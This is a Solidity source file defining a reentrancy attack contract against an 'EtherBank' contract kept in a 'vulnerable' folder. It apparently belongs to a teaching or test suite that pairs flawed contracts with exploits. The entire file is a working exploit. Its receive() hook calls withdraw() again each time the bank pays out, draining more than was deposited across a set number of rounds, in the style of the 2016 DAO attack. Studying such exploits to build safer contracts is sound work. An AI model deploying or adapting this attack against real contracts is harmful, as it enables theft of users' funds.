// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {EtherBankBase} from "../vulnerable/EtherBank.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Classic reentrancy (The DAO, June 2016): withdraws again each time it is paid.
contract ReentrancyAttack is Exploit {
    EtherBankBase private immutable _bank;
    uint256 private _left;

    constructor(EtherBankBase bank) {
        _bank = bank;
    }

    receive() external payable {
        if (_left == 0) return;
        --_left;
        _bank.withdraw();
    }

    /// @param rounds how many times what was paid in is paid out, besides the first.
    function run(uint256 rounds) external payable onlyOperator {
        _left = rounds;
        _bank.deposit{value: msg.value}();
        _bank.withdraw();
    }
}
